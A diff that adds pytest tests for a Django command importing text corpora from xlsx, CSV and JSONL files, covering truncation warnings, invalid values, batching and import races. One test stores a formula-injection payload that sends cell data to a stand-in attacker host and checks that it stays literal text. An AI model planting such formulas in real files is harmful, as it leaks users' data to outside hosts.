@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import io
 import json
 import subprocess
 import sys
@@ -7,6 +8,7 @@ import sys
 import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
+from django.db import connection
 
 from audit.models import AuditLog
 from tests.conftest import SHARED_DATASETS, write_xlsx
@@ -164,6 +166,99 @@ def test_the_command_exits_non_zero_on_bad_input(tmp_path):
                             capture_output=True, text=True, check=False)
     assert result.returncode != 0
     assert "no such file" in result.stderr
+
+
+def test_it_imports_a_cut_xlsx_cell_with_a_warning_when_told_to(tmp_path):
+    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "y" * 40_000), ("x2", "short")]})
+    report = import_corpus(path, actor="test", allow_cut_cells=True)
+    assert report.imported == 2
+    assert [str(w) for w in report.warnings] == [
+        ("posts.xlsx, sheet 'S', row 2, field 'text': exactly 32,767 characters, the most an xlsx cell holds: "
+         "probably cut short when the file was saved; imported as it is")]
+    assert len(Sample.objects.get(external_id="x1").text) == 32_767
+    assert "1 text(s) probably cut at the xlsx cell limit" in report.summary()
+
+
+def test_the_command_imports_cut_cells_with_a_warning_when_told_to(tmp_path):
+    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "y" * 32_767)]})
+    errors, output = io.StringIO(), io.StringIO()
+    call_command("import_corpus", str(path), "--allow-cut-cells", stderr=errors, stdout=output)
+    assert "warning: posts.xlsx, sheet 'S', row 2, field 'text': exactly 32,767 characters" in errors.getvalue()
+    assert "imported 1 sample(s)" in output.getvalue()
+
+
+@pytest.mark.parametrize("name", ["posts.csv", "posts.jsonl"])
+def test_a_text_of_32767_characters_is_whole_in_csv_and_jsonl(tmp_path, name):
+    text = "é" * 32_767
+    path = tmp_path / name
+    content = f"ID,Text\nx1,{text}\n" if name.endswith(".csv") else json.dumps({"id": "x1", "text": text}) + "\n"
+    path.write_text(content, encoding="utf-8")
+    report = import_corpus(path, actor="test")
+    assert (report.imported, report.warnings) == (1, [])
+    assert Sample.objects.get().text == text
+
+
+def test_it_imports_a_formula_as_its_literal_text_without_evaluating_it(tmp_path):
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A2,"click me")'
+    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", formula)]})
+    import_corpus(path, actor="test")
+    assert Sample.objects.get().text == formula
+
+
+def test_it_keeps_whole_number_ids_from_xlsx_and_jsonl(tmp_path):
+    write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, (7, "seven")]})
+    (tmp_path / "posts.jsonl").write_text('{"id": 8, "text": "eight"}\n{"id": 9.0, "text": "nine"}\n')
+    import_corpus(tmp_path / "posts.xlsx", actor="test")
+    import_corpus(tmp_path / "posts.jsonl", actor="test")
+    assert sorted(Sample.objects.values_list("external_id", flat=True)) == ["7", "8", "9"]
+
+
+def test_it_skips_rows_whose_values_are_no_text_when_told_to(tmp_path):
+    path = tmp_path / "posts.jsonl"
+    path.write_text('{"id": "a", "text": "fine"}\n{"id": "b", "text": true}\n{"id": "c", "text": "x\\u0000"}\n')
+    report = import_corpus(path, actor="test", skip_invalid=True)
+    assert report.imported == 1
+    assert [str(p) for p in report.skipped] == [
+        "posts.jsonl, line 2, field 'text': a true/false value (True) where a text must be",
+        ("posts.jsonl, line 3, field 'text': control character U+0000 at character 2: only tab, line feed and "
+         "carriage return may be in a text; the file may be damaged or binary")]
+
+
+def test_it_imports_more_rows_than_one_batch_and_counts_those_already_there(tmp_path):
+    rows = [f"r{i},post number {i}" for i in range(2_345)]
+    (tmp_path / "first.csv").write_text("ID,Text\n" + "\n".join(rows[:1_200]) + "\n")
+    (tmp_path / "all.csv").write_text("ID,Text\n" + "\n".join(rows) + "\n")
+    import_corpus(tmp_path / "first.csv", actor="test")
+    report = import_corpus(tmp_path / "all.csv", actor="test")
+    assert (report.imported, report.already_present) == (1_145, 1_200)
+    assert Sample.objects.count() == 2_345
+    assert Sample.objects.get(external_id="r2344").source_row == 2_346
+
+
+@pytest.mark.django_db(transaction=True)
+def test_it_reads_and_checks_the_whole_file_with_no_transaction_open(tmp_path):
+    path = tmp_path / "posts.csv"
+    path.write_text("ID,Text\n" + "".join(f"r{i},post {i}\n" for i in range(1_500)))
+    in_transaction = []
+    import_corpus(path, actor="test", progress=lambda _: in_transaction.append(connection.in_atomic_block))
+    assert len(in_transaction) == 1_500 and not any(in_transaction)
+    assert Sample.objects.count() == 1_500
+
+
+@pytest.mark.django_db(transaction=True)
+def test_an_import_that_loses_a_race_with_another_of_the_same_file_is_refused_cleanly(tmp_path):
+    path = tmp_path / "posts.csv"
+    path.write_text("ID,Text\nx1,fine\nx2,also fine\n")
+    rival = []
+
+    def import_the_same_file_meanwhile(_: int) -> None:
+        if not rival:
+            rival.append(import_corpus(path, actor="rival"))
+
+    with pytest.raises(ImportRejected, match="another import stored this file or some of its ids"):
+        import_corpus(path, actor="test", progress=import_the_same_file_meanwhile)
+    assert Corpus.objects.get().imported_by == "rival" and Sample.objects.count() == 2
+    assert list(AuditLog.objects.order_by("id").values_list("actor", "result")) == [("rival", "ok"), ("test", "failed")]
 
 
 @pytest.mark.skipif(not SHARED_DATASETS.exists(), reason="../shared/datasets is not beside this clone")
